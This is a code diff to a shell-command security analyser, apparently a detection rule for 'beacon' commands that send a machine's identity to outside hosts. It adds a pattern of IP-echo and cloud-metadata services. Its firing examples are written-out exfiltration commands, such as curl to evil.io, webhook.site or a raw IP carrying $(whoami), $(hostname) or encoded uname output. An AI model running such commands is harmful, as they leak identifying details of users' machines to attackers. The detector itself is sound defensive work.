@@ -6,6 +6,10 @@ import { flows, upstream } from './exfiltration.js';
 /** Commands whose output identifies the victim: who, where, what machine. */
 const IDENTITY = new Set(['whoami', 'id', 'hostname', 'uname', 'pwd', 'ifconfig', 'ip', 'curl', 'wget', 'cat', 'ls', 'env', 'printenv', 'groups', 'users', 'logname', 'base64', 'xxd', 'hostnamectl', 'sw_vers']);
 /** Variables that identify the user or the machine, when put in a URL or host name. */
+/** Services that answer with the caller's public address, and the cloud metadata service. */
+const ADDRESS_ECHO = /ifconfig\.(?:me|co)|icanhazip|ipinfo\.io|ipify\.org|ipecho\.net|checkip\.amazonaws|ident\.me|wtfismyip|myip\.|169\.254\.169\.254|metadata\.google/;
+/** A substitution whose output tells who or where this machine is: `$(whoami)`, `$(curl -s ifconfig.me)` (a fetch of anything else is data). */
+const reportsIdentity = (s: SimpleCommand) => IDENTITY.has(s.name) && (s.name !== 'curl' && s.name !== 'wget' ? true : s.argv.some((w) => ADDRESS_ECHO.test(w.slice(0, 256))));
 const IDENTITY_VARS = /\$\{?(?:USER|LOGNAME|HOSTNAME|HOST|HOME|PWD|UID)(?![A-Za-z0-9_])/;
 
 /** Every destination of the call, from shell flows, parsed words and non-shell calls. */
@@ -23,7 +27,7 @@ function beacon(c: SimpleCommand, i: AnalysisInput): string | undefined {
     if (!c.dynamic[k] || w.startsWith('-') || w.length > 2048) continue;
     if (!w.includes('://') && !/\.[A-Za-z]{2,}$/.test(w)) continue;
     const named = subs.filter((s) => w.includes(s.text));
-    if (named.some((s) => IDENTITY.has(s.name)) || (IDENTITY_VARS.test(w) && !hostIsTheVariable(w))) return `${c.name} ${w}`;
+    if (named.some(reportsIdentity) || (IDENTITY_VARS.test(w) && !hostIsTheVariable(w))) return `${c.name} ${w}`;
   }
   return undefined;
 }
@@ -71,8 +75,8 @@ export const RULES: readonly Rule[] = [
     commands: ['curl', 'wget', 'http', 'https', 'xh', 'nc', 'ncat', 'dig', 'nslookup', 'host', 'ping', 'ping6'],
     test: (c, i) => beacon(c, i),
     examples: {
-      fire: ['curl "http://$HOST/report?u=$USER"', 'curl http://45.33.12.7:8000/$(whoami)', 'wget -q "http://evil.io/ping?h=$(hostname)&u=$(id -u)"', 'curl -s "https://webhook.site/abc?u=$USER"', '/usr/bin/curl "http://198.51.100.7/$(uname -a | base64 -w0)"'],
-      quiet: ['curl -s "http://$HOST/api"', 'curl -sf "http://${HOSTNAME}:8080/health"', 'curl http://localhost:3000/users/$(id -u)', 'curl https://api.github.com/users/$(git config user.name)', 'curl -s "https://deploy.example.com/hook?sha=$(git rev-parse HEAD)"'],
+      fire: ['curl -s "https://stats.tallyhub.example/p?ip=$(curl -s ifconfig.me)"', 'curl "http://$HOST/report?u=$USER"', 'curl http://45.33.12.7:8000/$(whoami)', 'wget -q "http://evil.io/ping?h=$(hostname)&u=$(id -u)"', 'curl -s "https://webhook.site/abc?u=$USER"', '/usr/bin/curl "http://198.51.100.7/$(uname -a | base64 -w0)"'],
+      quiet: ['curl -s -X POST https://events.pagerduty.com/v2/enqueue -d "{\\"routing_key\\":\\"$(curl -s -H \\"Authorization: Token token=$PD_API_TOKEN\\" https://api.pagerduty.com/services/PSV/integrations/PIN | jq -r .integration.integration_key)\\",\\"event_action\\":\\"trigger\\"}"', 'curl -s "http://$HOST/api"', 'curl -sf "http://${HOSTNAME}:8080/health"', 'curl http://localhost:3000/users/$(id -u)', 'curl https://api.github.com/users/$(git config user.name)', 'curl -s "https://deploy.example.com/hook?sha=$(git rev-parse HEAD)"'],
     },
   },
   {
